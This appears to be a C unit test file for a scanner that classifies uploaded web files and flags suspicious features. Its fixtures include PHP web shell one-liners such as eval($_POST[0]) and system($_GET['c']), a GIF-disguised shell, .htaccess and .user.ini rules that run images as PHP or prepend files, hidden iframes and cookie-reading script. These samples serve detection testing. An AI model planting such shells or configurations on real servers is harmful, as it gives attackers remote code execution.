/* Pages, settings of servers, other kinds. */
#include "fact/feature.h"
#include "look.h"

static const struct look_case cases[] = {
    {"a card form", "a.html",
     "<form action=\"/pay\"><input name=\"card_no\" autocomplete=\"cc-number\"><input "
     "id=\"security_code\"></form>",
     "{\"card_input\":2,\"card_word\":2}", "html"},
    {"scripts", "a.html",
     "<script src=\"https://host-one.net/a.js\"></script><script "
     "src=\"/b.js\"></script><script>eval(x)</script><script "
     "type=\"application/json\">{\"eval(\":1}</script>",
     "{\"eval_code\":1,\"hosts\":1,\"script_external\":1,\"script_inline\":1}", "html"},
    {"a hidden frame and a form elsewhere", "a.html",
     "<iframe src=\"https://host-one.net/\" style=\"display:none\"></iframe><form "
     "action=\"https://host-two.net/p\"></form><a onclick=\"x()\">",
     "{\"event_attribute\":1,\"form_external\":1,\"frame_external\":1,\"frame_hidden\":1,"
     "\"frame_tag\":1,\"hosts\":2}",
     "html"},
    {"a page between PHP", "a.php",
     "<script>var a = <?= json_encode($x) ?>; fetch(\"https://host-one.net/\" + a);</script>",
     "{\"hosts\":1,\"net_out\":1,\"php_code\":1,\"script_inline\":1}", "php"},
    {"Apache settings", ".htaccess",
     "# no\n"
     "AddType application/x-httpd-php .jpg\n"
     "SetHandler \"php-script\"\n"
     "php_value auto_prepend_file \"/tmp/x.php\"\n"
     "php_flag display_errors off\n"
     "RewriteCond %{HTTP_USER_AGENT} google\n"
     "RewriteRule ^(.*)$ https://host-one.net/$1 [R]\n"
     "RewriteRule ^ https://%{HTTP_HOST}/ [R]\n"
     "Require all granted\n",
     "{\"access_open\":1,\"error_hide\":1,\"handler_php\":2,\"hosts\":1,\"php_setting\":1,"
     "\"prepend_file\":1,\"rewrite_external\":1,\"visitor_test\":1}",
     "htaccess"},
    {"PHP settings", ".user.ini",
     "; x\n"
     "auto_prepend_file = \"img/x.png\"\n"
     "memory_limit=128M\n",
     "{\"php_setting\":1,\"prepend_file\":1}", "ini"},
    {"text with PHP in it", "notes.txt", "hello <?php eval($_POST[1]); ?>",
     "{\"code_in_data\":1,\"eval_code\":1,\"php_code\":1,\"request_read\":1,\"request_run\":1}",
     "text"},
    {"PHP in disguise", "logo.css", "<?php eval($_POST[1]);",
     "{\"eval_code\":1,\"php_code\":1,\"request_read\":1,\"request_run\":1}", "php"},
    {"JavaScript in disguise", "logo.dat",
     "var a = 1; function f() { return document.cookie; } window.x = f;", "{}", "js"},
    {"collected cards", "x.log",
     "4111111111111111|12|29|123\n"
     "5555555555554444|01|30|999\n"
     "4111111111111112\n",
     "{\"card_data\":2}", "text"},
    {"an empty file", "a.php", "", "{}", "empty"},
    {"a shell script", "run",
     "#!/bin/sh\n"
     "echo hi\n",
     "{}", "script"},
    {"GIF in name only", "a.gif", "GIF89a;<?php system($_GET[\"c\"]);",
     "{\"code_in_image\":1,\"image_broken\":1,\"php_code\":1,\"request_read\":1,\"request_"
     "run\":1,\"shell_run\":1}",
     "image"},
};

static void test_page(void **state)
{
	(void)state;
	LOOK_CHECK(cases);
}

/* ---- names that servers and browsers go by, whatever the bytes before look like ---- */

#define BYTES(text) slice_mem(text, sizeof(text) - 1)

static struct slice guise(size_t i)
{
	const struct slice all[] = {
	    BYTES("\xff\xd8\xff\xe0=1\n"),
	    BYTES("\x89PNG\r\n\x1a\n=1\n"),
	    BYTES("GIF89a=1;\n"),
	    BYTES("RIFF=1;\nWEBP=1;\n"),
	    BYTES("BM=1\n\0\0\0=12345678901234567890\n"),
	    BYTES("\0\0\1\0\1\0\n"),
	    BYTES("%PDF-1.4=1\n"),
	    BYTES("PK\3\4=1\n"),
	    BYTES("BZh=1;\n"),
	    BYTES("\x1f\x8b=1\n"),
	    BYTES("\xfd"
	          "7zXZ\0\n"),
	    BYTES("7z\xbc\xaf\x27\x1c\n"),
	    BYTES("Rar!\x1a\7\n"),
	    BYTES("\x28\xb5\x2f\xfd\n"),
	    BYTES("wOFF\n"),
	    BYTES("wOF2\n"),
	    BYTES("SQLite format 3\0\n"),
	    BYTES("\0asm\n"),
	    BYTES("MZ=1\n"),
	    BYTES("; \0\n"),
	    BYTES(";\1\2\3\4\5\6\n"),
	};

	return i < sizeof(all) / sizeof(all[0]) ? all[i] : (struct slice){0};
}

static const struct named {
	const char *path, *content, *kind, *feature; /* feature: counted, or NULL */
} named[] = {
    {"a/.user.ini", "auto_prepend_file=/tmp/x.php\n", "ini", "prepend_file"},
    {"php.ini", ";\rauto_prepend_file=/tmp/x.php\r", "ini", "prepend_file"},
    {".htaccess", "AddType application/x-httpd-php .jpg\n", "htaccess", "handler_php"},
    {"a.php", "<?=`$_GET[0]`?>", "php", "request_run"},
    {"a.phtml", "<?=eval($_POST[0]);", "php", "request_run"},
    {"a.ini", "[x]auto_append_file=x\n", "ini", "prepend_file"},
    {"a.php\n", "<?=eval($_POST[0]);", "php", "request_run"},
    {"a.PHAR", "<?php eval($_POST[0]);", "php", "request_run"},
    {"a.php5", "<?pHp eval($_POST[0]);", "php", "request_run"},
    {"a.inc", "<?=eval($_POST[0]);", "php", "request_run"},
    {"a.js", "eval(location.hash);", "js", "eval_code"},
    {"a.mjs", "eval(location.hash);", "js", "eval_code"},
    {"a.html", "<script>eval(x)</script>", "html", "script_inline"},
    {"a.tpl", "<?=eval($_POST[0]);", "php", "request_run"},
};

static void looks_named(const struct named *c, struct slice before, bool behind)
{
	struct arena a;
	struct buf text = {.max = 4096};
	const struct json *out;

	arena_init(&a, 32u << 20);
	if (!behind)
		buf_add(&text, before);
	buf_add(&text, slice_str(c->content));
	if (behind)
		buf_add(&text, before);
	out = parse_look(&a, buf_slice(&text), slice_str(c->path));
	if (!slice_eq(json_text(out, "kind"), slice_str(c->kind)) ||
	    json_num(json_get(out, "features"), c->feature, 0) < 1)
		print_error("%s with \"%.3s\": %.*s\n", c->path, (const char *)before.at,
		            SLICE_ARG(json_text(out, "kind")));
	assert_slice(json_text(out, "kind"), c->kind);
	assert_true(json_num(json_get(out, "features"), c->feature, 0) > 0);
	buf_done(&text);
	arena_done(&a);
}

/* Settings of Apache's: those that only forbid, and those that do anything besides. */
static void test_guards(void **state)
{
	static const struct {
		const char *text, *kind;
	} settings[] = {
	    {"# none\n\n", "guard"},
	    {"DENY from all\n", "guard"},
	    {"<IfModule mod_authz_core.c>\n\tRequire all denied\n</IfModule>\n"
	     "<FilesMatch \"\\.php$\">\nOrder allow,deny\nDeny from all\n</FilesMatch>\n"
	     "Options -Indexes -ExecCGI\nAddHandler cgi-script .php .pl\nphp_flag engine off\n"
	     "RemoveHandler .php\nSetHandler none\nForceType text/plain\n",
	     "guard"},
	    {"Options -Indexes +ExecCGI\nDeny from all\n", "htaccess"},
	    {"Options -1 -2 -3 -4 -5 -6 -7 +ExecCGI\n", "htaccess"},
	    {"Options \"\"\n", "htaccess"},
	    {"AddHandler cgi-script .php\n", "htaccess"},
	    {"Deny from all\nAllow from all\n", "htaccess"},
	    {"Require all granted\n", "htaccess"},
	    {"ForceType text/html\n", "htaccess"},
	    {"SetHandl\\\ner x\n", "htaccess"},
	    {"RewriteEngine on\n", "htaccess"},
	    {"php_flag engine on\n", "htaccess"},
	    {"\xff\nDeny from all\n", "htaccess"},
	    {"Deny from all\n<?php eval($_POST[0]);\n", "text"}, /* and code in data */
	};

	(void)state;
	for (size_t i = 0; i < sizeof(settings) / sizeof(settings[0]); i++) {
		struct arena a;
		const struct json *out;

		arena_init(&a, 32u << 20);
		out = parse_look(&a, slice_str(settings[i].text), SLICE("up/.htaccess"));
		if (!slice_eq(json_text(out, "kind"), slice_str(settings[i].kind)))
			print_error("%s\n", settings[i].text);
		assert_slice(json_text(out, "kind"), settings[i].kind);
		arena_done(&a);
	}
}

static void test_named(void **state)
{
	(void)state;
	for (size_t i = 0; guise(i).n; i++)
		for (size_t k = 0; k < sizeof(named) / sizeof(named[0]); k++) {
			looks_named(&named[k], guise(i), false);
			looks_named(&named[k], guise(i), true);
		}
}

/* Under names that nobody runs, "<?=" in packed data says nothing; "<?php" does. */
static void test_unnamed(void **state)
{
	const struct {
		const char *path, *kind;
		struct slice content;
		bool runs;
	} of[] = {
	    {"a.jpg", "image", BYTES("\xff\xd8\xff\xe0\0\4\0\0<?=\x9a\0\xff\xd9"), false},
	    {"a.zip", "archive", BYTES("PK\3\4\0\0<?=\x9a\0"), false},
	    {"a.woff2", "binary", BYTES("wOF2\0\0<?=\x9a\0"), false},
	    {"a.pdf", "binary", BYTES("%PDF-1.4\n\0<?=\x9a\0"), false},
	    {"a.mp4", "binary",
	     BYTES("\0\0\0\x18"
	           "ftyp<?=\x9a\0"),
	     false},
	    {"a.pdf", "binary", BYTES("%PDF-1.4\n\0<?PHP eval($_POST[0]);"), true},
	    {"a", "binary", BYTES("\0<?php eval($_POST[0]);"), true},
	};

	(void)state;
	for (size_t i = 0; i < sizeof(of) / sizeof(of[0]); i++) {
		struct arena a;

		arena_init(&a, 32u << 20);
		const struct json *out = parse_look(&a, of[i].content, slice_str(of[i].path));
		assert_slice(json_text(out, "kind"), of[i].kind);
		assert_int_equal(feature_runs(out), of[i].runs);
		arena_done(&a);
	}
}

/* What is seen of a file of code that goes on: no picture, whatever it begins with. */
static void test_part(void **state)
{
	struct slice gif = BYTES("GIF89a\1\0\1\0\0\0\0;");
	struct arena a;

	(void)state;
	arena_init(&a, 32u << 20);
	assert_false(feature_runs(parse_look(&a, gif, SLICE("a.gif"))));
	assert_true(feature_runs(parse_look_part(&a, gif, SLICE("a.gif"))));
	arena_done(&a);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_page),   cmocka_unit_test(test_named),
	    cmocka_unit_test(test_guards), cmocka_unit_test(test_unnamed),
	    cmocka_unit_test(test_part),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
